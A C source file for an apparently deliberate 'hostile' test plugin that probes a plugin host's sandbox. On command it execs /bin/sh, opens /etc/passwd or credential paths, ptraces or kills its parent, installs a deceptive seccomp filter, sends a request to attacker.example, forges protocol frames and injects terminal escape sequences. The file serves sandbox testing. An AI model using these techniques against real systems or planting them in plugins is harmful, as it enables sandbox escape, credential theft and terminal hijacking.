/* A plugin that does one wrong thing, at one moment: tests write the order "MOMENT:MISCHIEF:PATH" over the
 * text below in a copy of the built file. Moments: constructor; start (the same, but only of a run); entry;
 * hook (validate); authenticate; early (of run, before it asks); answer (of run, once it has one). Whatever
 * gets out of the jail ends with status 42; what is merely refused ends with 43. */
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <muster/plugin.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile char order[256] = "@order:nothing:nothing:";

/* What stands behind the n-th colon of the order, up to the next. */
static const char *part(unsigned n)
{
	static char text[sizeof order];
	size_t length = 0;
	size_t at = 0;

	while (n > 0 && order[at])
		n -= order[at++] == ':';
	while (order[at] && order[at] != ':')
		text[length++] = order[at++];
	text[length] = '\0';
	return text;
}

static void judge(int escaped)
{
	_exit(escaped ? 42 : 43);
}

static void do_segfault(void)
{
	static volatile int *volatile nowhere = NULL;

	*nowhere = 1;
}

static void do_exit(void)
{
	exit(3);
}

static void do_silent_exit(void)
{
	exit(0);
}

static void do_loop(void)
{
	for (volatile unsigned i = 0;; i++)
		continue;
}

static void do_allocate(void)
{
	for (;;) {
		char *more = malloc(1 << 20);
		if (!more)
			abort();
		memset(more, 1, 1 << 20);
	}
}

static void do_output(void)
{
	static const char text[4096] = "x";

	while (write(STDOUT_FILENO, text, sizeof text) > 0)
		continue;
	judge(0);
}

static void do_fork(void)
{
	judge(fork() >= 0);
}

static void do_exec(void)
{
	char name[] = "sh";
	char *arguments[] = { name, NULL };

	execv("/bin/sh", arguments);
	judge(0);
}

static void do_open(void)
{
	judge(open("/etc/passwd", O_RDONLY) >= 0);
}

/* As the dynamic linker opens, so that only Landlock stands against it. */
static void do_open_quietly(void)
{
	judge(open("/etc/passwd", O_RDONLY | O_CLOEXEC) >= 0);
}

static void do_open_credentials(void)
{
	judge(open(part(3), O_RDONLY | O_CLOEXEC) >= 0 || errno == ENOENT);
}

static void do_create(void)
{
	judge(open("/tmp/muster-hostile", O_RDWR | O_CREAT, 0600) >= 0);
}

static void do_socket(void)
{
	judge(socket(AF_INET, SOCK_STREAM, 0) >= 0);
}

static void do_ptrace(void)
{
	judge(ptrace(PTRACE_ATTACH, getppid(), NULL, NULL) == 0);
}

static void do_kill(void)
{
	judge(kill(getppid(), SIGTERM) == 0);
}

/* By its number, as a parent's id can't be asked for. */
static void do_kill_all(void)
{
	judge(syscall(SYS_kill, -1, SIGTERM) == 0);
}

static void do_tgkill(void)
{
	judge(syscall(SYS_tgkill, 1, 1, SIGTERM) == 0);
}

static void do_write_descriptors(void)
{
	for (int fd = 4; fd < 1024; fd++)
		if (write(fd, "x", 1) == 1)
			judge(1);
	judge(0);
}

static void do_write_area(void)
{
	char *area = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, 5, 0);

	if (area == MAP_FAILED)
		judge(0);
	area[0] = 'x';
	judge(1);
}

static void do_protect_area(void)
{
	char *area = mmap(NULL, 4096, PROT_READ, MAP_SHARED, 5, 0);

	judge(area != MAP_FAILED && mprotect(area, 4096, PROT_READ | PROT_WRITE) == 0);
}

static void do_reopen_area(void)
{
	judge(open("/proc/self/fd/5", O_RDWR | O_CLOEXEC) >= 0);
}

static void do_make_code(void)
{
	judge(mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) !=
		MAP_FAILED);
}

static void do_raise_limits(void)
{
	struct rlimit limit = { RLIM_INFINITY, RLIM_INFINITY };

	judge(setrlimit(RLIMIT_AS, &limit) == 0);
}

static void do_uring(void)
{
	char parameters[256] = { 0 };

	judge(syscall(425, 8, parameters) >= 0);
}

static void do_personality(void)
{
	judge(syscall(SYS_unshare, 0x10000000) == 0);
}

/* Without a socket the host hears no more; the process goes on all the same. */
static void do_close_socket(void)
{
	uint32_t never = 0;

	(void)close(3);
	for (;;)
		(void)syscall(SYS_futex, &never, 0 /* FUTEX_WAIT */, 0, NULL, NULL, 0);
}

/* A filter of its own that feigns success would keep the second list of the jail from being installed. */
static void do_feign_filter(void)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_seccomp, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { sizeof code / sizeof code[0], code };

	(void)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program);
	do_open_quietly();
}

/* ---- On the wire ---- */

static void say(const void *bytes, size_t length)
{
	(void)send(3, bytes, length, 0);
}

static void put_u32(unsigned char *to, size_t value)
{
	for (unsigned i = 0; i < 4; i++)
		to[i] = (unsigned char)(value >> 8 * i & 0xff);
}

static void frame_of(unsigned char type, const void *payload, size_t length)
{
	unsigned char head[8] = { 0 };

	put_u32(head, length);
	head[4] = type;
	say(head, sizeof head);
	say(payload, length);
}

static void frame(unsigned char type, const char *payload)
{
	frame_of(type, payload, strlen(payload));
}

static void record(const char *json, size_t length)
{
	unsigned char *batch = malloc(8 + 4 + length);

	if (!batch)
		abort();
	put_u32(batch, 4);
	put_u32(batch + 4, length);
	memcpy(batch + 8, "\"1\"", 4);
	memcpy(batch + 12, json, length);
	frame_of(21, batch, 12 + length);
	free(batch);
}

static void request(const char *number, const char *method, const char *url, const char *from)
{
	char text[512];

	(void)snprintf(text, sizeof text, "{\"request\":%s,\"method\":\"%s\",\"url\":\"%s\",\"from\":\"%s\"}",
		number, method, url, from);
	frame(19, text);
}

static void do_garbage(void)
{
	say("\x1b[31mGET / HTTP/1.1\r\n\r\n", 23);
}

static void do_huge_frame(void)
{
	say("\xff\xff\xff\xff\x15\0\0\0", 8);
}

static void do_flood(void)
{
	for (;;)
		frame(17, "{\"field\":\"a\",\"code\":\"b\",\"message\":\"c\"}");
}

static void do_forge_records(void)
{
	say("\4\0\0\0\x15\0\0\0\0\0\0\0", 12);
}

static void do_forge_end(void)
{
	frame(23, "{}");
	frame(23, "{}");
}

static void do_stall(void)
{
	char byte;

	(void)recv(3, &byte, 1, 0);
	(void)recv(3, &byte, 1, 0);
}

/* Says that the machine is to blame, in words that a terminal would obey. */
static void do_blame(void)
{
	frame(24,
		"{\"code\":\"installation\",\"message\":\"\\u001b[2JIt was \\u009b31mnot\\u0007 me.\\u202e\"}");
}

/* The manifest of a connector that looks like a good one, with a host of its own and a name in colour. */
static void do_forge_manifest(void)
{
	frame(16,
		"{\"abi\":0,\"sdk\":1,\"id\":\"hostile\",\"name\":\"\\u001b]0;mine\\u0007\",\"version\":\"1\","
		"\"hosts\":[{\"name\":\"localhost\",\"use\":[\"api\"]}]}");
	frame(23, "{}");
	do_stall();
}

static void do_records_empty(void)
{
	for (;;)
		frame(21, "");
}

static void do_records_no_json(void)
{
	record("nonsense", 8);
}

static void do_records_no_model(void)
{
	record("{\"id\":\"1\",\"nonsense\":true}", 26);
}

static void do_records_wrong_type(void)
{
	record("{\"id\":{\"a\":1}}", 14);
}

static void do_records_newline(void)
{
	record("{\"id\":\"1\"}\n{\"id\":\"2\"}", 21);
}

static void do_records_escape(void)
{
	record("{\"id\":\"\x1b[31m\"}", 14);
}

static void do_records_huge(void)
{
	size_t length = (4 << 20) + 1;
	char *text = malloc(length);

	if (!text)
		abort();
	memset(text, 'a', length);
	memcpy(text, "{\"id\":\"", 7);
	memcpy(text + length - 2, "\"}", 2);
	record(text, length);
}

static void do_records_endless(void)
{
	for (;;)
		record("{\"id\":\"1\"}", 10);
}

static void do_records_longer(void)
{
	frame_of(21, "\4\0\0\0\xff\0\0\0\"1\"{}", 13);
}

/* Tables whose every text a terminal would obey. */
static void do_texts(void);

/* A good record, whose text a terminal would obey. */
static void do_records_colour(void)
{
	static const char text[] =
		"{\"id\":\"1\",\"full_name\":\"\\u001b[31mred\\u009b2J\\u0007\\u202e\xc2\x9b\"}";

	record(text, sizeof text - 1);
}

#define EMPLOYEES "https://api.cultureamp.com/v1/employees"

static void do_request_foreign(void)
{
	request("2", "GET", "https://attacker.example/v1/employees", "hook");
}

static void do_request_path(void)
{
	request("2", "GET", "https://api.cultureamp.com/v1/manager-reviews", "hook");
}

static void do_request_link(void)
{
	request("2", "GET", "https://api.cultureamp.com/v1/manager-reviews", "link");
}

static void do_request_method(void)
{
	request("2", "POST", EMPLOYEES, "hook");
}

static void do_request_number(void)
{
	request("7", "GET", EMPLOYEES, "hook");
}

static void do_request_port(void)
{
	request("2", "GET", "https://api.cultureamp.com:8443/v1/employees", "hook");
}

static void do_request_many(void)
{
	for (unsigned i = 2; i < 9; i++) {
		char number[8];
		(void)snprintf(number, sizeof number, "%u", i);
		request(number, "GET", EMPLOYEES, "hook");
	}
}

static void do_page_lie(void)
{
	frame(22, "{\"request\":1,\"records\":99}");
}

static void do_page_twice(void)
{
	frame(22, "{\"request\":1,\"records\":0}");
	frame(22, "{\"request\":1,\"records\":0}");
}

static void do_release(void)
{
	frame_of(20, "\3\0\0\0", 4);
}

static void do_release_outside(void)
{
	frame_of(20, "\xff\xff\xff\xff", 4);
}

static void do_done_early(void)
{
	frame(23, "{}");
}

static void do_token(void)
{
	frame(18, "{\"form\":{}}");
}

static void do_deep_json(void)
{
	char *text = malloc(200000);

	if (!text)
		abort();
	memset(text, '[', 200000);
	frame_of(22, text, 200000);
}

static const struct {
	const char *name;
	void (*act)(void);
} mischiefs[] = {
	{ "segfault", do_segfault },
	{ "abort", abort },
	{ "exit", do_exit },
	{ "silent_exit", do_silent_exit },
	{ "loop", do_loop },
	{ "allocate", do_allocate },
	{ "output", do_output },
	{ "fork", do_fork },
	{ "exec", do_exec },
	{ "open", do_open },
	{ "open_quietly", do_open_quietly },
	{ "open_credentials", do_open_credentials },
	{ "create", do_create },
	{ "socket", do_socket },
	{ "ptrace", do_ptrace },
	{ "kill", do_kill },
	{ "kill_all", do_kill_all },
	{ "tgkill", do_tgkill },
	{ "write_descriptors", do_write_descriptors },
	{ "write_area", do_write_area },
	{ "protect_area", do_protect_area },
	{ "reopen_area", do_reopen_area },
	{ "make_code", do_make_code },
	{ "raise_limits", do_raise_limits },
	{ "uring", do_uring },
	{ "unshare", do_personality },
	{ "garbage", do_garbage },
	{ "huge_frame", do_huge_frame },
	{ "flood", do_flood },
	{ "forge_records", do_forge_records },
	{ "forge_end", do_forge_end },
	{ "stall", do_stall },
	{ "close_socket", do_close_socket },
	{ "feign_filter", do_feign_filter },
	{ "blame", do_blame },
	{ "forge_manifest", do_forge_manifest },
	{ "records_empty", do_records_empty },
	{ "records_no_json", do_records_no_json },
	{ "records_no_model", do_records_no_model },
	{ "records_wrong_type", do_records_wrong_type },
	{ "records_newline", do_records_newline },
	{ "records_escape", do_records_escape },
	{ "records_colour", do_records_colour },
	{ "records_huge", do_records_huge },
	{ "records_endless", do_records_endless },
	{ "records_longer", do_records_longer },
	{ "request_foreign", do_request_foreign },
	{ "request_path", do_request_path },
	{ "request_link", do_request_link },
	{ "request_method", do_request_method },
	{ "request_number", do_request_number },
	{ "request_port", do_request_port },
	{ "request_many", do_request_many },
	{ "page_lie", do_page_lie },
	{ "page_twice", do_page_twice },
	{ "release", do_release },
	{ "release_outside", do_release_outside },
	{ "done_early", do_done_early },
	{ "token", do_token },
	{ "deep_json", do_deep_json },
	{ "texts", do_texts },
};

static void moment(const char *now)
{
	if (strcmp(part(1), now) != 0)
		return;
	for (size_t i = 0; i < sizeof mischiefs / sizeof mischiefs[0]; i++) {
		if (strcmp(part(2), mischiefs[i].name) == 0) {
			mischiefs[i].act();
			return;
		}
	}
}

__attribute__((constructor)) static void construct(void)
{
	moment("constructor");
	/* Only a run has an area of shared memory. */
	if (mmap(NULL, 4096, PROT_READ, MAP_SHARED, 5, 0) != MAP_FAILED)
		moment("start");
}

static int32_t validate(const struct muster_services *services, struct muster_call *call)
{
	(void)services;
	(void)call;
	moment("hook");
	return 0;
}

/* Borrows Culture Amp's ways, so that the sandbox answers. */
static int32_t authenticate(const struct muster_services *services, struct muster_call *call)
{
	moment("authenticate");
	return services->token(call, NULL, 0);
}

static int32_t run(const struct muster_services *services, struct muster_call *call)
{
	struct muster_answer answer;

	moment("early");
	if (services->request(call, NULL, 0, &answer) != 0)
		return -1;
	moment("answer");
	return 0;
}

static struct muster_field fields[] = {
	{ .id = "client_id", .label = "Client ID", .flags = MUSTER_REQUIRED },
	{ .id = "client_secret", .label = "Secret", .type = MUSTER_SECRET, .flags = MUSTER_REQUIRED },
};
static const struct muster_place places[] = {
	{ .where = MUSTER_TOKEN_FORM, .name = "client_id", .value = "{field.client_id}" },
	{ .where = MUSTER_TOKEN_FORM, .name = "client_secret", .value = "{field.client_secret}" },
	{ .where = MUSTER_CALL_HEADER, .name = "Authorization", .value = "Bearer {token}" },
};

#define CLIENT \
	.label = "Client", .grant = MUSTER_CLIENT_CREDENTIALS, \
	.token_url = "https://api.cultureamp.com/v1/oauth2/token", \
	.scope_format = "target-entity:8ed17dce-9eca-4383-a9e1-54f82c362b6d:{scopes}", \
	.scope_separator = ",", MUSTER_ROWS(fields, fields), MUSTER_ROWS(places, places)

static const struct muster_auth auths[] = {
	{ .id = "none", .label = "None" },
	{ .id = "client", CLIENT },
	{ .id = "hooked", CLIENT, .authenticate = authenticate },
};
static const struct muster_scope scopes[] = { { .id = "employees-read" } };
static const struct muster_host hosts[] = {
	{ .name = "api.cultureamp.com", .use = MUSTER_API | MUSTER_TOKEN },
};
static const struct muster_map map[] = { MUSTER_COPY("id", "/id") };

#define LIST(id_, auth_) \
	{ \
		.id = (id_), .label = "List", .auth = (auth_), .scopes = "employees-read", \
		.request = "GET " EMPLOYEES, .model = "employee", .key = "id", MUSTER_ROWS(map, map), \
		.run = run \
	}

static struct muster_action actions[] = { LIST("list", "client"), LIST("list_hooked", "hooked") };
static struct muster_plugin plugin = { .id = "hostile",
	.name = "Hostile",
	.version = "1",
	MUSTER_ROWS(auths, auths),
	MUSTER_ROWS(scopes, scopes),
	MUSTER_ROWS(hosts, hosts),
	MUSTER_ROWS(actions, actions),
	.validate = validate };

static void do_texts(void)
{
	static const char text[] = "\033]0;owned\007\033[2J\xc2\x9b"
				   "31mred\u202e";

	plugin.name = plugin.summary = text;
	actions[0].label = actions[0].help = text;
	fields[0].label = fields[0].help = text;
}

MUSTER_EXPORT const struct muster_entry *muster_plugin_0(void);
const struct muster_entry *muster_plugin_0(void)
{
	static const struct muster_entry entry = { MUSTER_ABI, MUSTER_SDK, { &plugin, 1, sizeof plugin } };

	moment("entry");
	return &entry;
}
